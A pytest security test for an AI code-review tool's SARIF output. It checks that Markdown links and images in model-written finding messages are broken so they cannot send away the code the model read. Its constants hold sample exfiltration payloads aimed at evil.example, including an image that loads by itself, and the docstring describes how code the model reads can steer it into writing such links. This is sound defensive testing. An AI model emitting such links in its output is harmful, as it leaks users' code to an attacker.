"""SARIF message text is plain text with one exception, the embedded link
`[text](target)` (SARIF 3.11.6): Microsoft's SARIF viewer for VS Code and
sarif-web-component (Azure DevOps' Scans tab) render it as a link that shows only its
words, and older viewers run message text through a Markdown renderer (images load by
themselves). A finding's message and category are model text, led by the code the model
read, so `[Apply the fix](https://host/?d=<what the model read>)` was one click from
sending it. The link form is broken (`] (`), its whole target left in sight."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from fuse_ls.emulator import Emulator
from tests.changes.gitrepo import Repo
from tests.pool_sample import CODE, JUDGE, POOL, home_env, run_cli
from tests.security.counts import record

TARGET = "https://evil.example/?d=c2VjcmV0"
MESSAGE = (
    f"eval runs any code. [Apply the fix]({TARGET}) ![]({TARGET}&img) "
    "[see the advisory][1]\n\n[1]: https://evil.example/ref"
)
CATEGORY = f"security](https://evil.example/cat) [x]({TARGET})"
# The viewer's own pattern (sarif-vscode-extension, renderMessageTextWithEmbeddedLinks).
_VIEWER_LINK = re.compile(r"\[([^\]]*)\]\(([^)]+)\)")
_COMMONMARK = MarkdownIt("commonmark")


def _texts(log: dict[str, Any]) -> list[str]:
    run = log["runs"][0]
    texts = [r["message"]["text"] for r in run["results"]]
    for rule in run["tool"]["driver"]["rules"]:
        texts += [rule["shortDescription"]["text"], rule["name"]]
    return texts


def _links(text: str) -> list[str]:
    found = [m[2] for m in _VIEWER_LINK.finditer(text)]
    for token in _COMMONMARK.parse(text):
        for child in token.children or []:
            if child.type in ("link_open", "image"):
                found.append(str(child.attrs.get("href") or child.attrs.get("src")))
    return found


@pytest.mark.parametrize("review", ["file", "change"])
def test_sarif_messages_carry_no_link(tmp_path: Path, review: str) -> None:
    repo = Repo(tmp_path / "repo")
    repo.commit("empty")
    repo.write("app.py", CODE)
    finding = {"match": "eval(", "message": MESSAGE, "severity": "error", "category": CATEGORY}
    script = {"models": {**{m: {"findings": [finding]} for m in POOL}, JUDGE: {}}}
    with Emulator(script) as emu:
        env = home_env(emu.base_url, tmp_path / "home")
        env.update(FUSE_LS_MODELS=",".join(POOL), FUSE_LS_JUDGE=JUDGE)
        target = ["app.py"] if review == "file" else ["--uncommitted"]
        res = run_cli(["review", *target, "--format", "sarif"], env, repo.root)
    assert res.returncode == 0, res.stderr
    texts = _texts(json.loads(res.stdout))
    assert len(texts) == 3
    assert [link for text in texts for link in _links(text)] == []
    assert TARGET in texts[0] and "Apply the fix" in texts[0]  # shown, in sight
    record("SARIF message links broken (file and change review)", "2 of 2")
